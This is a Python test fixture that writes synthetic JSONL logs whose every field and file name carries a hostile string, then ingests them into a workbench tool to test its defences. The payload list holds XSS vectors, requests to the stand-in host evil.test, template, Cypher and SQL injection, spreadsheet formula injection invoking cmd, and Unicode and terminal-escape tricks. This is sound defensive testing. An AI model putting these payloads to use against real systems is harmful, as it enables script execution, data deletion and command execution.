"""Logs whose every text is hostile, and the real workspace that our own ingest makes of them."""

from __future__ import annotations

import json
from collections.abc import Iterator, Mapping, Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

from tests.browser.desks import HOSTILE
from workbench import Workbench

__all__ = ["TEXTS", "hostile_workspace", "write_logs"]

RUN = "window.__pwn=1"
TEXTS: tuple[str, ...] = (
    *HOSTILE,
    "<style>body{display:none}</style>",
    "<math><mtext></mtext><script>window.__pwn=1</script></math>",
    "<details open ontoggle=window.__pwn=1>",
    "<body onload=window.__pwn=1>",
    "<meta http-equiv=refresh content='0;url=https://evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<object data=https://evil.test/x.swf></object>",
    "<base href=https://evil.test/>",
    "<form action=https://evil.test><button>go</button></form>",
    "<video src=https://evil.test/v onerror=window.__pwn=1>",
    "--><script>window.__pwn=1</script><!--",
    "]]><script>window.__pwn=1</script>",
    "</script><script>window.__pwn=1</script>",
    "\\u003cscript\\u003ewindow.__pwn=1\\u003c/script\\u003e",
    "&lt;script&gt;window.__pwn=1&lt;/script&gt;",
    "%3Cscript%3Ewindow.__pwn=1%3C/script%3E",
    "[![x](https://evil.test/a.png)](https://evil.test)",
    "![][1]\n\n[1]: https://evil.test/ref.png",
    "<https://evil.test/auto>",
    ":streamlit: :red-background[x] :shortcut[Ctrl+J]",
    "$$\\href{https://evil.test}{x}$$",
    "datum.constructor.constructor('window.__pwn=1')()",
    "event.view.fetch('https://evil.test')",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "%s%s%s%n {0.__class__}",
    "'}) DETACH DELETE n //",
    '"; SELECT pg_sleep(9); --',
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "\tTAB first",
    "\u202eevil\u202c \u2067rtl\u2069",
    "a\u200bb\u200cc\u200dd\ufeff\u2060e",
    "NUL\x00inside",
    "lone\ud800surrogate",
    "\x1b]0;title\x07\x1b[2J",
    "Z\u0335\u0321\u0301\u0300\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030a" * 8,
)
PLAIN = 2  # accounts beside the one with a hostile id, so that its identifiers are shared
START = datetime(2026, 5, 1, tzinfo=UTC)


def _at(days: float) -> str:
    return (START + timedelta(days=days)).isoformat()


def _names(place: int, text: str) -> list[str]:
    return [text, *(f"acct_{place:02}_{i}" for i in range(PLAIN))]


def _accounts(place: int, text: str) -> Iterator[Mapping[str, Any]]:
    for i, name in enumerate(_names(place, text)):
        yield {
            "account_id": name,
            "created_at": _at(place / 100 + i / 1000),
            "name": text,
            "organisation": text,
        }
    # A row of its own: what is no e-mail address is refused with the whole row.
    yield {
        "account_id": f"mail_{place:02}",
        "created_at": _at(place / 100),
        "email": f"{text}@evil.test",
        "email_domain": text,
        "country": text,
    }


def _payments(place: int, text: str) -> Iterator[Mapping[str, Any]]:
    for i, name in enumerate(_names(place, text)):
        yield {
            "payment_id": f"pay_{place}_{i}",
            "ts": _at(1 + place / 100),
            "account_id": name,
            "psp": "stripe",
            "payment_fingerprint": text,
        }


def _exchanges(place: int, text: str) -> Iterator[Mapping[str, Any]]:
    for i, name in enumerate(_names(place, text)):
        for turn in range(6):
            yield {
                "exchange_id": f"ex_{place}_{i}_{turn}",
                "ts": _at(2 + turn + place / 100 + i / 5000),
                "account_id": name,
                "ip": f"203.0.{place}.{1 + i % 2}",
                "user_agent": text,
                "device_fingerprint": text,
                "tls_fingerprint": text,
                "model": text,
                "endpoint": text,
                "prompt": f"{text} {turn}",
                "api_key_id": text,
                "session_id": text,
            }


def _labels(place: int, text: str) -> Iterator[Mapping[str, Any]]:
    first, *_ = _names(place, text)
    yield {"account_id": first, "label": "closed", "source": text, "ts": _at(20), "note": text}


def _calendar(place: int, text: str) -> Iterator[Mapping[str, Any]]:
    yield {"ts": _at(3 + place / 10), "kind": "model_release", "name": text, "who": text}


def _indicators(_place: int, text: str) -> Iterator[Mapping[str, Any]]:
    yield {
        "kind": "device", "value": text, "operator": text, "role": "access", "source": text,
        "reliability": "B", "credibility": 2,
    }  # fmt: skip


FILES = {
    "account": _accounts,
    "payment": _payments,
    "exchange": _exchanges,
    "label": _labels,
    "calendar": _calendar,
    "indicator": _indicators,
}


def write_logs(folder: Path, texts: Sequence[str] = TEXTS) -> dict[str, Path]:
    """One JSONL file a kind, its name hostile too as far as a file's name can be."""
    folder.mkdir(parents=True)
    written = {}
    for kind, rows in FILES.items():
        path = folder / f"<img src=x onerror={RUN}> {kind}.jsonl"
        lines = (json.dumps(row) for place, text in enumerate(texts) for row in rows(place, text))
        path.write_text("\n".join(lines) + "\n", encoding="ascii")
        written[kind] = path
    return written


def hostile_workspace(folder: Path) -> Path:
    """Those logs ingested and analysed by the real thing."""
    desk = Workbench.open(folder / "workspace", create=True)
    for kind, path in write_logs(folder / "logs").items():
        desk.ingest([path], mapping=f"canonical.{kind}")
    desk.workspace.mark_synthetic(TEXTS[1])
    desk.analyse(seed=1)
    return folder / "workspace"
